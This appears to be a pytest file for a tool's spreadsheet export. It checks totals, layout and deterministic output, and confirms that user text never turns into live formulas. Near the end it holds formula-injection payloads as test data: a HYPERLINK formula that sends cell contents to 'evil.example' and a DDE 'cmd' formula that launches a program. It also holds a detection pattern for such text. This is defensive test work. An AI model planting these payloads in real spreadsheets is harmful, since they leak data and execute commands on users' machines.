"""The workbook of a run: text stays text, numbers are numbers, totals are formulas that a spreadsheet reckons alike."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from contextlib import suppress
from dataclasses import replace
from typing import NamedTuple
from xml.etree import ElementTree

import pytest
from python_calamine import CalamineWorkbook

from cpm_opt.faults import InputError
from cpm_opt.report.explanation import Explanation, Section
from cpm_opt.report.page import page
from cpm_opt.report.page.figures import figures
from cpm_opt.report.terminal import clean
from cpm_opt.report.words import Units
from cpm_opt.report.workbook import workbook
from cpm_opt.runs import RunRecord, read_run, write_run
from tests.handmade import FACTS, choiceless, no_plan, plan, portfolio, written
from tests.report.hostile import NAMES, hostile_run
from tests.report.risky import risky_run

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
SPACE = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
RELATIONS = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
# Every function that a formula of the workbook may use; none of them reaches out of the workbook.
FUNCTIONS = {"SUM", "SUBTOTAL", "SUMIFS", "SUMPRODUCT", "EXACT", "MAX", "IF"}
CSV_OF_EVERY_SHEET = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1"


class Formula(NamedTuple):
    sheet: str
    place: str
    text: str
    value: float | None


def formulas(data: bytes) -> list[Formula]:
    """Every formula of a workbook with the value that is written beside it."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        book = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        for number, sheet in enumerate(book.findall("x:sheets/x:sheet", SPACE), start=1):
            assert sheet.get(RELATIONS) == f"rId{number}"
            root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))
            for cell in root.findall(".//x:c[x:f]", SPACE):
                value = cell.findtext("x:v", None, SPACE)
                formula = cell.findtext("x:f", "", SPACE)
                found.append(
                    Formula(
                        str(sheet.get("name")), str(cell.get("r")), formula, float(value) if value else None
                    )
                )
    return found


def sheet(data: bytes, name: str) -> list[list[object]]:
    """The rows of a sheet as a reader of the cached values sees them."""
    return (
        CalamineWorkbook.from_filelike(io.BytesIO(data))
        .get_sheet_by_name(name)
        .to_python(skip_empty_area=False)
    )


def row_of(data: bytes, name: str, first: str) -> list[object]:
    return next(row for row in sheet(data, name) if row[0] == first)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> RunRecord:
    return read_run(written(tmp_path_factory.mktemp("results")))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> RunRecord:
    return hostile_run(tmp_path_factory.mktemp("hostile"))


def test_the_sheets_and_what_they_hold(run):
    data = workbook(run)
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == [
        "summary", "explanation", "plan", "options", "segments", "resources", "choices", "rules", "waterfall",
        "waterfall_parts", "origin",
    ]  # fmt: skip
    assert sheet(data, "plan")[2] == [
        "segment",
        "month",
        "lever",
        "option",
        "customers",
        "share",
        "anything to choose",
    ]
    assert ["silver", 1.0, "service", "better", 96.0, 0.24, "yes"] in sheet(data, "plan")
    assert sheet(data, "segments")[2][:6] == [
        "segment", "kind", "tier", "month", "customers", "margin, thousand RUB",
    ]  # fmt: skip
    assert row_of(data, "options", "service")[1:] == ["as now", 404.0, 388.0]
    assert any("thousand RUB" in str(row[0]) for row in sheet(data, "summary"))


def test_source_and_licence_of_the_data_stand_on_the_first_sheet(tmp_path):
    facts = replace(FACTS, source="A & B (2008)", licence="CC BY 4.0")
    first = [str(row[0]) for row in sheet(workbook(write_run(tmp_path, plan(), facts)), "summary")]
    assert {"Source of the data: A & B (2008)", "Licence of the data: CC BY 4.0"} < set(first)


def test_the_totals_are_the_figures_of_the_run(run):
    data, facts = workbook(run), run.facts
    profit = row_of(data, "summary", "profit")
    cent = 0.00001  # of tables in thousands
    assert profit[1:4] == pytest.approx(
        [facts["today"]["profit"], facts["profit"], facts["profit"] - facts["today"]["profit"]], abs=cent
    )
    assert row_of(data, "waterfall", "profit of the plan")[3] == pytest.approx(facts["profit"], abs=cent)
    left = row_of(data, "waterfall", "difference (0, up to rounding to the cent)")[3]
    assert left == pytest.approx(0, abs=cent)
    objective = row_of(data, "summary", "all that counts, as the model weighs it")
    assert objective[1:3] == pytest.approx([facts["today"]["objective"], facts["objective"]], abs=cent)
    live = {(each.sheet, each.place): each.text for each in formulas(data)}
    assert live["summary", "C6"] == "waterfall!$D$9"
    assert live["summary", "B10"] == "1.0*(B6+B8+B9)+1.0*B7"
    assert live["summary", "C10"] == "1.0*(C6+C8+C9)+1.0*C7"
    months = [row for row in sheet(data, "summary") if row[0] in (1.0, 2.0)]
    assert [row[1] for row in months] == [500.0, 500.0]
    assert months[0][2] == pytest.approx(100 * 50 + 400 * 10 + 96 * 8 + 100 * 2)


def test_the_columns_of_the_summary_are_wide_enough_for_figures_however_many_there_are(tmp_path):
    p = portfolio()
    flows = {**p.flows, **{f"measure {number:02d}": p.flows["margin"] for number in range(20)}}
    data = workbook(read_run(written(tmp_path, plan(replace(p, flows=flows)))))
    used = max(at for row in sheet(data, "summary") for at, cell in enumerate(row, start=1) if cell != "")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    wide = [each for each in root.findall(".//x:cols/x:col", SPACE) if float(each.get("width", 0)) > 16]
    assert used > 20
    assert max(int(each.get("max", 0)) for each in wide) >= used
    heads = next(at for at, row in enumerate(sheet(data, "summary"), start=1) if row[0] == "month")
    high = {int(each.get("r", 0)): float(each.get("ht", 15)) for each in root.findall(".//x:row", SPACE)}
    assert high[heads] >= 3 * 15  # `measure 00 of all segments`


def test_customers_without_a_choice_are_not_counted_on_an_option(tmp_path):
    run = read_run(written(tmp_path, plan(choiceless())))
    data, tariff = workbook(run), ("tariff", "keep")
    assert [row[2:] for row in sheet(data, "options") if tuple(row[:2]) == tariff] == [[400.0, 410.0]]
    assert row_of(data, "options", "service")[1:] == ["as now", 304.0, 298.0]
    assert ["gold", 1.0, "service", "as now", 100.0, 1.0, "no"] in sheet(data, "plan")
    drawn = {figure.name: figure for figure in figures(run, Units(run.facts["instance"]))}
    better = {each.name: each.values for each in drawn["options-service"].views[0].series}["better"]
    assert better == pytest.approx((0.0, 96 / 400, 112 / 410))
    assert "Not counted: gold, where all options do the same." in drawn["options-service"].summary


def test_commands_stand_in_quotation_marks_and_on_the_page_as_code(run):
    cells = [str(cell) for row in sheet(workbook(run), "explanation") for cell in row]
    assert any(f"\u201ccpm explain {run.id} --deep\u201d" in cell for cell in cells)
    assert f"<code>cpm explain {run.id} --deep</code>" in page(run)
    assert not any("`" in cell for cell in cells)
    assert "`cpm" not in page(run)


def test_scenarios_are_weighed_by_their_probability(tmp_path):
    data = workbook(risky_run(tmp_path, 3))
    mean = row_of(data, "scenarios", "mean by probability")
    outcomes = [row for row in sheet(data, "scenarios") if isinstance(row[1], float)][1:]
    assert mean[1] == pytest.approx(1.0)
    assert mean[2] == pytest.approx(sum(row[1] * row[2] for row in outcomes))
    # Under risk the total is no sum of the lines above it, so it stands as a number.
    assert not [each for each in formulas(data) if "*(C6+C8+C9)" in each.text]


def test_text_never_becomes_a_formula(hostile):
    data = workbook(hostile)
    for each in formulas(data):
        assert set(re.findall(r"[A-Z][A-Z.]*(?=\()", each.text)) <= FUNCTIONS
        assert not re.search(r"evil|cmd|\[|http", each.text)
    names = ("plan", "segments", "resources", "explanation", "origin", "summary")
    cells = {str(cell) for name in names for row in sheet(data, name) for cell in row}
    text = "\n".join(cells)
    assert [name for name in NAMES if clean(name.strip()) not in text] == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert [name for name in archive.namelist() if "external" in name.lower()] == []
        assert b"<hyperlink" not in b"".join(archive.read(name) for name in archive.namelist())


@pytest.mark.parametrize("status", ["infeasible", "no_solution"])
def test_a_run_without_a_plan_has_no_tables_and_says_why(tmp_path, status):
    data = workbook(read_run(written(tmp_path, no_plan(status))))
    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names == [
        "summary",
        "explanation",
        "origin",
    ]
    assert any("No plan" in str(row[0]) for row in sheet(data, "summary"))


def test_an_explanation_that_is_there_already_is_the_one_that_is_written(run):
    told = Explanation(
        run.id, "optimal", "Told already", (Section("flips", "What would change it", ("Nothing.",)),)
    )
    assert ["Nothing."] in [row[:1] for row in sheet(workbook(run, told), "explanation")]


def test_the_same_run_gives_the_same_bytes(run):
    assert workbook(run) == workbook(read_run(run.path))


def test_a_table_too_long_for_a_sheet_is_left_out_whole_and_named(run, monkeypatch):
    monkeypatch.setattr("cpm_opt.report.workbook.xlsx.MOST_ROWS", 5)
    data = workbook(run)
    names = CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names
    assert "plan" not in names
    assert "options" not in names
    assert "resources" in names
    assert "plan.csv has 10 rows, too many for a sheet: it is left out." in [
        row[0] for row in sheet(data, "summary")
    ]


def unreckoned(data: bytes) -> bytes:
    """The workbook without the values beside its formulas: whoever opens it has to reckon them."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(out, "w") as stripped:
        for name in archive.namelist():
            content = archive.read(name)
            if name.startswith("xl/worksheets/"):
                content = re.sub(rb"(</f>)<v>[^<]*</v>", rb"\1", content)
            stripped.writestr(name, content)
    return out.getvalue()


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="no LibreOffice is installed")
def test_libreoffice_reckons_every_total_as_it_is_written(hostile, tmp_path):
    data = workbook(hostile)
    (tmp_path / "run.xlsx").write_bytes(unreckoned(data))
    assert SOFFICE is not None
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    call = [
        SOFFICE,
        profile,
        "--headless",
        "--convert-to",
        CSV_OF_EVERY_SHEET,
        "--outdir",
        str(tmp_path),
        "run.xlsx",
    ]
    subprocess.run(call, cwd=tmp_path, capture_output=True, timeout=180, check=True)
    tables: dict[str, list[list[str]]] = {}
    wrong = []
    for each in formulas(data):
        if each.sheet not in tables:
            text = (tmp_path / f"run-{each.sheet}.csv").read_text(encoding="utf-8")
            tables[each.sheet] = list(csv.reader(io.StringIO(text)))
        letters, number = re.fullmatch(r"([A-Z]+)(\d+)", each.place).groups()  # type: ignore[union-attr]
        column = (
            int(letters, 36) - 10 if len(letters) == 1 else pytest.fail("more columns than were thought of")
        )
        shown = tables[each.sheet][int(number) - 1][column]
        value = None if not shown else float(shown[:-1]) / 100 if shown.endswith("%") else float(shown)
        if value != (None if each.value is None else pytest.approx(each.value, rel=1e-9, abs=1e-9)):
            wrong.append((each, shown))
    assert len(tables) >= 6
    assert wrong == []
    texts = {cell for rows in tables.values() for row in rows for cell in row}
    assert {'=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "*", ">5"} <= texts


WRONG = (
    "today.objective", "model.objective", "penalties", "portfolio.kinds", "created", "hashes",
)  # fmt: skip


@pytest.mark.parametrize("key", WRONG)
@pytest.mark.parametrize("value", [None, "much", []])
def test_a_damaged_run_is_told_and_is_no_defect(tmp_path, key, value):
    run = risky_run(tmp_path, 3)
    facts = json.loads((run.path / "run.json").read_text(encoding="utf-8"))
    *above, last = (int(part) if part.isdigit() else part for part in key.split("."))
    inner = facts
    for part in above:
        inner = inner[part]
    inner[last] = value
    (run.path / "run.json").write_text(json.dumps(facts), encoding="utf-8")
    with pytest.raises(InputError, match="the run is damaged"):
        workbook(read_run(run.path))
    with suppress(InputError):  # what a page does not need may be wrong
        page(read_run(run.path))
